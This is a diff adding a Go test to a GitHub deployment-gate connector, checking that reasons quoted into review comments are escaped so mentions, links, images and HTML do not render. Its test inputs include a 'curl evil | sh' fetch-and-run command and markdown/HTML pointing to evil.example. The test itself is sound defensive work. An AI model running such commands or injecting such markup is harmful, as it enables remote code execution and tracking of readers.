@@ -20,6 +20,7 @@ import (
 
 	"github.com/tollgate-dev/tollgate/connectors"
 	"github.com/tollgate-dev/tollgate/core"
+	"github.com/tollgate-dev/tollgate/internal/inert"
 )
 
 // ruleFromFixture is the recorded deployment payload in the shape of a
@@ -171,6 +172,91 @@ func TestAppAnswer(t *testing.T) {
 	if err := w.Answer(context.Background(), p, false, "why"); err != nil || tokens.Load() != 2 {
 		t.Fatalf("after a refused token: %v, %d tokens; want a new one", err, tokens.Load())
 	}
+}
+
+// TestAnswerCommentInert: GitHub renders the review's comment as Markdown,
+// and a reason quotes ITSM and pipeline text: what is sent pings no one,
+// links to nothing and fetches no image, and fits GitHub's limit once
+// escaped.
+func TestAnswerCommentInert(t *testing.T) {
+	key, _ := rsa.GenerateKey(rand.Reader, 2048)
+	pemKey := pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: x509.MarshalPKCS1PrivateKey(key)})
+	var sent string
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/app/installations/99/access_tokens":
+			w.WriteHeader(201)
+			_ = json.NewEncoder(w).Encode(map[string]any{"token": "ghs_a", "expires_at": time.Now().Add(time.Hour)})
+		case "/repos/Codertocat/Hello-World/actions/runs/77/deployment_protection_rule":
+			var b reviewBody
+			_ = json.NewDecoder(r.Body).Decode(&b)
+			sent = b.Comment
+			w.WriteHeader(204)
+		default:
+			w.WriteHeader(404)
+		}
+	}))
+	defer srv.Close()
+	w, err := New(connectors.Config{Name: "github", Type: Type, WebhookSecret: "0123456789abcdef",
+		API: &connectors.API{URL: srv.URL, AppID: "42", PrivateKey: pemKey}, CIGate: testGate()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	p, _, err := w.GateRequest(context.Background(), EventProtectionRule, ruleFromFixture(t, srv.URL, nil))
+	if err != nil {
+		t.Fatal(err)
+	}
+	head := "tollgate: deny (decision 0190f3a4-7b1c-7d2e-9f00-123456789abc)\n- CHANGE_NOT_APPROVED CHG0097001: "
+	for _, tc := range []struct {
+		name, reason string
+		never        []string // markup the renderer would act on
+	}{
+		{"mention", "approved by @octocat, ask @acme/release-team", []string{"@octocat", "@acme"}},
+		{"image", "![x](https://evil.example/pixel.png)", []string{"![", "](", "https://"}},
+		{"link", "[approve here](https://evil.example)", []string{"[approve", "](", "://"}},
+		{"html", "<img src=https://evil.example/p><details open>", []string{"<img", "<details"}},
+		{"issue refs", "see #12, GH-13 and acme/api#14", []string{"#12", "GH-13", "#14"}},
+		{"code span", "`curl evil | sh`", []string{" `c", "h`"}},
+		{"long", strings.Repeat("<@x> ", 400), []string{"@x"}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			in := connectors.Comment(head + tc.reason)
+			if err := w.Answer(context.Background(), p, false, in); err != nil {
+				t.Fatal(err)
+			}
+			if want := inert.MarkdownClip(in, connectors.MaxComment); sent != want {
+				t.Fatalf("comment sent %q, want %q", sent, want)
+			}
+			if len(sent) > connectors.MaxComment || !strings.Contains(sent, `CHANGE\_NOT\_APPROVED CHG0097001\: `) {
+				t.Fatalf("comment sent (%d bytes) %q, want at most %d with the reason's code and key readable", len(sent), sent, connectors.MaxComment)
+			}
+			for _, bad := range tc.never {
+				if live(sent, bad) {
+					t.Errorf("comment sent %q carries %q", sent, bad)
+				}
+			}
+		})
+	}
+}
+
+// live reports whether s holds markup unescaped: not right after a
+// backslash that escapes it.
+func live(s, markup string) bool {
+	for i := strings.Index(s, markup); i >= 0; {
+		run := 0
+		for run < i && s[i-1-run] == '\\' {
+			run++
+		}
+		if run%2 == 0 {
+			return true
+		}
+		next := strings.Index(s[i+1:], markup)
+		if next < 0 {
+			break
+		}
+		i += 1 + next
+	}
+	return false
 }
 
 // TestAnswerTaken: what a deployment's statuses tell of an answer whose
